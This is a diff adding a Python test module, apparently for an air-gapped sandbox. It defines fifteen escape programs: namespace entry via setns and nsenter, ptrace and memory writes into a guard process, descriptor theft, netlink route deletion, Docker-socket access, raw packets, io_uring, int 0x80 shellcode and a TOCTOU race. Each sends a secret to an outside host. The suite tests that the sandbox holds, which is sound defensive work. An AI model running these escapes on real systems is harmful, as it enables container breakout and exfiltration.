@@ -1,0 +1,284 @@
+"""Programs that know of the air gap, and try to undo it or to go around it.
+
+What one gained it uses, for the witness to see; what cannot be seen there it says as ``gained``. At its end it says
+``tried``.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Sequence
+from dataclasses import dataclass
+
+from e2e.egress import NOT_HERE, PYTHON, Way
+from e2e.world import ABSTRACT, DAEMON, DATAGRAMS, OUTSIDE, SECRET
+
+_HEAD = f"""
+import contextlib, ctypes, os, socket, struct, subprocess, sys
+libc = ctypes.CDLL(None, use_errno=True)
+GUARD, DOOR = int(os.environ["GUARD"]), int(os.environ["DOOR"])
+SECRET_AT = int(os.environ["SECRET_AT"])
+OUTSIDE, DATAGRAMS, DAEMON, ABSTRACT = {OUTSIDE!r}, {DATAGRAMS}, {DAEMON!r}, {ABSTRACT!r}
+WORD = {SECRET.encode()!r}
+trying = lambda: contextlib.suppress(OSError, subprocess.SubprocessError)
+
+def gained(what):
+    print("gained", what, flush=True)
+
+def speak(family, address, kind=socket.SOCK_STREAM):
+    with trying(), socket.socket(family, kind) as one:
+        one.settimeout(5)
+        one.connect(address)
+        one.sendall(WORD)
+
+def out():
+    speak(socket.AF_INET, (OUTSIDE, 443))
+    speak(socket.AF_INET, (OUTSIDE, DATAGRAMS), socket.SOCK_DGRAM)
+    with trying():
+        socket.getaddrinfo("escaped.example.com", 80)
+
+def address(host, port):
+    return struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)
+
+def call(number, *words):
+    libc.syscall.restype = ctypes.c_long
+    return libc.syscall(*map(ctypes.c_long, (number, *words)))
+
+def not_here():
+    sys.exit({NOT_HERE})
+"""
+_END = "\nprint('tried', flush=True)\n"
+
+
+@dataclass(frozen=True)
+class Escape:
+    """One program.
+
+    ``shows`` is found in what it says or in what the witness sees, when it is root's and nothing keeps it in.
+    """
+
+    id: str
+    program: str
+    shows: str = f"connection :443 {SECRET!r}"
+    may_lack: bool = False
+
+    @property
+    def way(self) -> Way:
+        """As a program to run."""
+        return Way(self.id, [PYTHON, "-c", _HEAD + self.program + _END], "", may_lack=self.may_lack)
+
+
+# linux/sched.h, linux/ptrace.h, asm/unistd_64.h and asm-generic/unistd.h for what stands as numbers below.
+_NAMESPACES = """
+def enter(process):
+    for kind in ("user", "mnt", "net"):
+        with trying():
+            path = f"/proc/{process}/ns/{kind}"
+            if os.readlink(path) != os.readlink(f"/proc/self/ns/{kind}"):
+                fd = os.open(path, os.O_RDONLY)
+                if libc.setns(fd, 0) == 0: gained(path)
+"""
+_EVERYBODY = (
+    _NAMESPACES
+    + """
+for process in (GUARD, 1, *filter(str.isdecimal, os.listdir("/proc"))):
+    enter(process)
+out()
+"""
+)
+_NSENTER = """
+words = "import socket; socket.create_connection(%r, 5).sendall(%r)" % ((OUTSIDE, 443), WORD)
+for process in (GUARD, os.getppid(), 1):
+    for namespaces in (["-n"], ["-U", "--preserve-credentials", "-n"], ["-a"]):
+        with trying():
+            subprocess.run(["nsenter", "-t", str(process), *namespaces, sys.executable, "-c", words], timeout=20)
+out()
+"""
+_PTRACE = """
+libc.ptrace.restype = ctypes.c_long
+if libc.ptrace(0x4206, GUARD, None, None) == 0: gained("the guard by ptrace")  # PTRACE_SEIZE
+"""
+_MEMORY = """
+with trying(), open(f"/proc/{GUARD}/mem", "r+b", buffering=0) as memory:
+    memory.seek(SECRET_AT)
+    memory.write(bytes(8)); gained("the guard's memory, to write")
+here = ctypes.create_string_buffer(8)
+class Vector(ctypes.Structure):
+    _fields_ = (("at", ctypes.c_void_p), ("length", ctypes.c_size_t))
+mine, its = Vector(ctypes.addressof(here), 8), Vector(SECRET_AT, 8)
+for name in ("process_vm_readv", "process_vm_writev"):
+    if getattr(libc, name)(GUARD, ctypes.byref(mine), 1, ctypes.byref(its), 1, 0) == 8: gained(name)
+"""
+_DESCRIPTORS = """
+with trying():
+    process = os.pidfd_open(GUARD)
+    for number in range(3, 64):
+        if call(438, process, number, 0) >= 0: gained(f"the guard's descriptor {number}")
+with trying():
+    for name in os.listdir(f"/proc/{GUARD}/fd"):
+        with trying():
+            os.open(f"/proc/{GUARD}/fd/{name}", os.O_RDONLY | os.O_NONBLOCK)
+            gained(f"the guard's file {name}")
+        with trying():
+            gained(f"the name of the guard's file {name}: " + os.readlink(f"/proc/{GUARD}/fd/{name}"))
+"""
+_ROUTES = """
+def tell(kind, body):
+    with trying(), socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as netlink:
+        netlink.bind((0, 0))
+        netlink.send(struct.pack("IHHII", 16 + len(body), kind, 0x5, 1, 0) + body)
+        netlink.recv(4096)
+
+inside = os.environ["LAYER"] != "open"  # else it would be the outside's own routes
+for family, scope in ((2, 254), (10, 0)) if inside else ():
+    route = struct.pack("BBBBBBBBI", family, 0, 0, 0, 255, 4, scope, 2, 0) + struct.pack("HHI", 8, 4, 1)
+    tell(25, route)  # RTM_DELROUTE
+commands = ("ip link set lo down", "ip link set lo up", "ip addr del 127.0.0.1/8 dev lo",
+            "ip route flush table local", "ip route del local default dev lo table local",
+            "ip link add out type dummy", "ip rule add from all lookup main pref 0")
+for command in commands if inside else ():
+    with trying():
+        subprocess.run(command.split(), stderr=subprocess.DEVNULL)
+out()
+"""
+_NEW_NAMESPACES = (
+    _NAMESPACES
+    + """
+def be_root():
+    uid, gid = os.getuid(), os.getgid()
+    if libc.unshare(0x10000000 | 0x00020000): return
+    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
+        with trying(), open(f"/proc/self/{name}", "w") as file:
+            file.write(text)
+
+be_root()
+out()
+enter(GUARD)
+there = os.path.join(os.environ["HOME"], f"there-{os.getpid()}")
+os.mkdir(there)
+libc.mount(b"/run", there.encode(), None, 0x1000, None)  # what lies under the mask, if it may be had
+speak(socket.AF_UNIX, there + "/docker.sock")
+libc.umount2(DAEMON.encode(), 2)
+speak(socket.AF_UNIX, DAEMON)
+libc.unshare(0x40000000)
+out()
+"""
+)
+_DAEMON = """
+folder = os.environ["HOME"]
+link = os.path.join(folder, f"link-{os.getpid()}")
+os.symlink(DAEMON, link)
+for path in (DAEMON, link, "/proc/self/root" + DAEMON, f"/proc/{GUARD}/root{DAEMON}", "/proc/1/root" + DAEMON):
+    speak(socket.AF_UNIX, path)
+os.chdir(os.path.dirname(DAEMON))
+speak(socket.AF_UNIX, "./" + os.path.basename(DAEMON))
+"""
+_ABSTRACT = """
+speak(socket.AF_UNIX, ABSTRACT)
+"""
+_ABSTRACT_DATAGRAMS = """
+speak(socket.AF_UNIX, ABSTRACT + b"-datagrams", socket.SOCK_DGRAM)
+with trying(), socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
+    one.sendto(WORD, ABSTRACT + b"-datagrams")
+with trying(), socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
+    one.sendmsg([WORD], [], 0, ABSTRACT + b"-datagrams")
+"""
+_RAW = """
+datagram = struct.pack("!HHHH", 4444, DATAGRAMS, 8 + len(WORD), 0) + WORD
+packet = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 1, 0, 64, 17, 0,
+                     socket.inet_aton(OUTSIDE), socket.inet_aton(OUTSIDE)) + datagram
+with trying(), socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
+    raw.sendto(packet, (OUTSIDE, 0))
+with trying(), socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
+    raw.connect((OUTSIDE, 0)); raw.send(packet)
+with trying(), socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0008) as link:
+    link.bind(("lo", 0x0800)); link.send(packet)
+"""
+_VSOCK = """
+try: one = socket.socket(socket.AF_VSOCK)
+except OSError: not_here()
+gained("a socket to the machine that this one runs in")
+"""
+_RING = """
+import mmap
+params = ctypes.create_string_buffer(120)
+ring = call(425, 4, ctypes.addressof(params))
+if ring < 0: not_here()
+entries, tail_at, array_at = (struct.unpack_from("I", params, at)[0] for at in (0, 44, 64))
+queue = mmap.mmap(ring, array_at + 4 * entries, offset=0)
+calls = mmap.mmap(ring, 64 * entries, offset=0x10000000)
+one, to = socket.socket(), ctypes.create_string_buffer(address(OUTSIDE, 443), 16)
+struct.pack_into("=BBHiQQ", calls, 0, 16, 0, 0, one.fileno(), 16, ctypes.addressof(to))  # IORING_OP_CONNECT
+struct.pack_into("I", queue, array_at, 0)
+struct.pack_into("I", queue, tail_at, 1)
+call(426, ring, 1, 1, 1, 0, 0)
+with trying():
+    one.sendall(WORD)
+"""
+_OLD_CALLS = """
+import mmap, platform
+if platform.machine() != "x86_64": not_here()
+if not os.fork():
+    low = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, 7)  # MAP_32BIT
+    at = ctypes.addressof(ctypes.c_char.from_buffer(low))
+    low[:11] = bytes.fromhex("5389f889f389d1cd805bc3")  # eax, ebx, ecx = arguments; int 0x80
+    old = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint, ctypes.c_uint, ctypes.c_uint)(at)
+    one = socket.socket()
+    low[64:80] = address(OUTSIDE, 443)
+    low[96:108] = struct.pack("=III", one.fileno(), at + 64, 16)
+    if old(102, 3, at + 96) == 0:  # socketcall, SYS_CONNECT
+        with trying():
+            one.sendall(WORD)
+    os._exit(0)
+if os.wait()[1]: not_here()
+"""
+_RACE = """
+import threading
+sys.setswitchinterval(1e-4)
+to, over = ctypes.create_string_buffer(16), threading.Event()
+places = address("127.0.0.1", DOOR), address(OUTSIDE, 443)
+
+def flip():
+    while not over.is_set():
+        for place in places: ctypes.memmove(to, place, 16)
+
+flipping = threading.Thread(target=flip)
+flipping.start()
+for _ in range(300):
+    with trying(), socket.socket() as one:
+        if libc.connect(one.fileno(), to, 16) == 0:
+            one.send(WORD)
+over.set()
+flipping.join()
+"""
+
+ESCAPES: Sequence[Escape] = (
+    Escape("setns", _EVERYBODY),
+    Escape("nsenter", _NSENTER),
+    Escape("ptrace", _PTRACE, "gained the guard by ptrace"),
+    Escape("memory", _MEMORY, "gained process_vm_writev"),
+    Escape("descriptors", _DESCRIPTORS, "gained the guard's descriptor"),
+    Escape("routes", _ROUTES),
+    Escape("new-namespaces", _NEW_NAMESPACES, DAEMON),
+    Escape("daemon-socket", _DAEMON, DAEMON),
+    Escape("abstract", _ABSTRACT, "of-another-service"),
+    Escape("abstract-datagrams", _ABSTRACT_DATAGRAMS, "of-another-service-datagrams"),
+    Escape("raw", _RAW, f"datagram :{DATAGRAMS}"),
+    Escape("vsock", _VSOCK, "gained a socket", may_lack=True),
+    Escape("ring", _RING, may_lack=True),
+    Escape("old-calls", _OLD_CALLS, may_lack=True),
+    Escape("race", _RACE),
+)
+
+ROUNDS = (
+    _HEAD
+    + """
+import signal
+rounds = os.open(sys.argv[1], os.O_WRONLY)
+for number in range(1_000_000):
+    out()
+    os.write(rounds, b".")
+    if sys.argv[2] == "itself" and number == 5:
+        os.kill(GUARD, signal.SIGKILL)
+"""
+)
+"""Goes on to try, each round a byte to the pipe of its first argument, until nobody reads that any more."""
